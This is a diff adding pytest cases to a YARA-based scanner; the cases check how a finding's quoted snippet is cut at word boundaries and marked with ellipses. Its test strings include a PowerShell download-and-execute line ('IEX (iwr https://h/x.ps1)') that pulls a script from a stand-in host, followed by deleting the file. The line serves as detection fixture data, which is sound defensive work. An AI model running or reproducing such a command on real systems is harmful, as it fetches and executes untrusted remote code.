@@ -19,7 +19,7 @@ import pytest
 import yara
 from aiohttp import web
 
-from inspector.analyzers.yara_scan import YaraAnalyzer
+from inspector.analyzers.yara_scan import YaraAnalyzer, word_window
 from inspector.config import Settings
 from inspector.extensions.request import InputKind, InspectionInput
 from inspector.model import Artifact, ArtifactType, Verdict
@@ -197,3 +197,28 @@ def test_a_snippet_window_that_starts_inside_a_password_shows_none_of_it():
     [finding] = scan(text).findings
     assert finding.snippet is not None and finding.snippet.startswith("[REDACTED]")
     assert not any(PASSWORD[i:i + 3] in finding.snippet for i in range(len(PASSWORD) - 2))
+
+
+def test_a_snippet_starts_and_ends_at_a_word_boundary():
+    text = ("Set-Location C:\\Windows\\Temp; Write-Output preparing; IEX (iwr https://h/x.ps1); "
+            "Start-Sleep -Seconds 5; Remove-Item -Force x.ps1\n")
+    [finding] = scan(text).findings
+    snippet = finding.snippet
+    assert snippet is not None and "IEX (iwr" in snippet
+    # 40 bytes before the match falls inside "Windows": the quote widens to the whole path.
+    assert snippet.startswith("C:\\Windows\\Temp;")
+    end = text.index(snippet) + len(snippet)
+    assert text[end] in " \n" and text[end - 1] not in " \n"
+
+
+def test_a_window_edge_with_no_blank_nearby_is_marked_with_an_ellipsis():
+    text = "A" * 200 + "IEX (iwr https://h/x.ps1)" + "B" * 200
+    [finding] = scan(text).findings
+    assert finding.snippet is not None
+    assert finding.snippet.startswith("\u2026AAAA") and finding.snippet.endswith("BBBB\u2026")
+
+
+def test_word_window_keeps_a_window_that_already_starts_at_a_word():
+    data = b"one two three four"
+    assert word_window(data, 4, 7) == (4, 7, False, False)
+    assert word_window(data, 5, 9) == (4, 13, False, False)
